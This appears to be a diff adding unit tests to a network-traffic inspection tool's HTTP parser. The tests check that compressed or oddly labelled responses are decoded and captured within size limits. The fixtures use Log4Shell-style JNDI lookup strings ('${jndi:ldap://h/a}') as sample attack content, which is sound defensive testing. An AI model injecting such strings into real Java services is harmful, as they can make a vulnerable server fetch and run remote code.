@@ -521,6 +521,85 @@ static void test_packed_class(void **state)
     buf_drop(&packed);
 }
 
+/* Whatever way an answer is packed, labelled or not and in whatever pieces, its beginning is shown; and no
+ * more of it than of a plain one. */
+static void test_packed_answer(void **state)
+{
+    static const char *const labels[PACK_N] = {"gzip", "deflate", "deflate", "zstd", "br"};
+    const struct bytes attack = BYTES_LIT("x=${jndi:ldap://h/a}");
+    struct buf plain = buf_within(1 << 20);
+
+    (void)state;
+    buf_add(&plain, attack);
+    for (unsigned i = 0; i < 4000; i++)
+        buf_addf(&plain, "<p>%u</p>", i * 7919);
+    buf_add_str(&plain, "${jndi:ldap://h/late}");
+    for (unsigned how = 0; how < PACK_N; how++)
+        for (size_t step = 1; step < 1000; step += 998) {
+            struct http_record *r = http_record_new();
+            struct buf all = buf_within(1 << 20), packed = buf_within(1 << 20);
+
+            count_reset();
+            pack((enum packing)how, buf_bytes(&plain), 6, &packed);
+            buf_addf(&all, "HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %zu\r\n\r\n",
+                     labels[how], packed.len);
+            buf_add(&all, buf_bytes(&packed));
+            buf_add_str(&all, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nnext");
+            http_record_steps(r, SERVER, buf_bytes(&all), step);
+            http_record_end(r);
+            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, attack));
+            assert_false(http_record_delivers(r, BYTES_LIT("h/late")));
+            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, BYTES_LIT("=next\n")));
+            assert_true(r->of[FIELD_HTTP_RESPONSE_BODY].len < r->config.http_response_body_limit + 100);
+            assert_true(counters[COUNT_HTTP_RESPONSE_SKIPPED] > 0);
+            assert_int_equal(counters[COUNT_HTTP_BAD_CODING] + counters[COUNT_HTTP_BOMB], 0);
+            http_record_free(r);
+            buf_drop(&all);
+            buf_drop(&packed);
+        }
+    buf_drop(&plain);
+}
+
+static void test_packed_answer_of_another_label(void **state)
+{
+    const struct bytes attack = BYTES_LIT("${jndi:ldap://h/a}");
+    static const char *const labels[] = {"", "Content-Encoding: br\r\n", "Content-Encoding: unheard-of\r\n"};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof labels / sizeof *labels; i++)
+        for (unsigned packs = 0; packs < 2; packs++) {
+            struct http_record *r = http_record_new();
+            struct buf packed = buf_within(1 << 20);
+
+            buf_addf(&packed, "HTTP/1.1 200 OK\r\n%s\r\n", labels[i]);
+            if (packs)
+                pack(PACK_GZIP, attack, 6, &packed);
+            else
+                buf_add(&packed, attack);
+            http_record_feed(r, SERVER, buf_bytes(&packed), 0, false);
+            http_record_end(r);
+            assert_true(http_record_has(r, FIELD_HTTP_RESPONSE_BODY, attack));
+            http_record_free(r);
+            buf_drop(&packed);
+        }
+}
+
+static void test_packed_answers_can_be_left(void **state)
+{
+    struct http_record *r = http_record_new();
+    struct buf packed = buf_within(1 << 20);
+
+    (void)state;
+    r->config.http_decompress_responses = false;
+    buf_add_str(&packed, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n");
+    pack(PACK_GZIP, BYTES_LIT("${jndi:ldap://h/a}"), 6, &packed);
+    http_record_feed(r, SERVER, buf_bytes(&packed), 0, false);
+    http_record_end(r);
+    assert_false(http_record_delivers(r, BYTES_LIT("${jndi:ldap://h/a}")));
+    http_record_free(r);
+    buf_drop(&packed);
+}
+
 static void test_fetch_that_leads_nowhere(void **state)
 {
     static const struct turn turns[] = {
@@ -735,18 +814,33 @@ static void test_state_is_small(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_recognise),         cmocka_unit_test(test_long_first_line),
-        cmocka_unit_test(test_transaction),       cmocka_unit_test(test_body_codings),
-        cmocka_unit_test(test_pairing),           cmocka_unit_test(test_too_many_waiting),
-        cmocka_unit_test(test_midstream),         cmocka_unit_test(test_tunnels),
-        cmocka_unit_test(test_class_file),        cmocka_unit_test(test_object),
-        cmocka_unit_test(test_endless_class),     cmocka_unit_test(test_jar),
-        cmocka_unit_test(test_packed_class),      cmocka_unit_test(test_fetch_that_leads_nowhere),
-        cmocka_unit_test(test_java_inside),       cmocka_unit_test(test_no_java),
-        cmocka_unit_test(test_long_class),        cmocka_unit_test(test_response_limit),
-        cmocka_unit_test(test_request_limit),     cmocka_unit_test(test_gaps),
-        cmocka_unit_test(test_gap_in_chunk),      cmocka_unit_test(test_long_heads),
-        cmocka_unit_test(test_floods_are_linear), cmocka_unit_test(test_memory_short),
+        cmocka_unit_test(test_recognise),
+        cmocka_unit_test(test_long_first_line),
+        cmocka_unit_test(test_transaction),
+        cmocka_unit_test(test_body_codings),
+        cmocka_unit_test(test_pairing),
+        cmocka_unit_test(test_too_many_waiting),
+        cmocka_unit_test(test_midstream),
+        cmocka_unit_test(test_tunnels),
+        cmocka_unit_test(test_class_file),
+        cmocka_unit_test(test_object),
+        cmocka_unit_test(test_endless_class),
+        cmocka_unit_test(test_jar),
+        cmocka_unit_test(test_packed_class),
+        cmocka_unit_test(test_packed_answer),
+        cmocka_unit_test(test_packed_answer_of_another_label),
+        cmocka_unit_test(test_packed_answers_can_be_left),
+        cmocka_unit_test(test_fetch_that_leads_nowhere),
+        cmocka_unit_test(test_java_inside),
+        cmocka_unit_test(test_no_java),
+        cmocka_unit_test(test_long_class),
+        cmocka_unit_test(test_response_limit),
+        cmocka_unit_test(test_request_limit),
+        cmocka_unit_test(test_gaps),
+        cmocka_unit_test(test_gap_in_chunk),
+        cmocka_unit_test(test_long_heads),
+        cmocka_unit_test(test_floods_are_linear),
+        cmocka_unit_test(test_memory_short),
         cmocka_unit_test(test_state_is_small),
     };
 
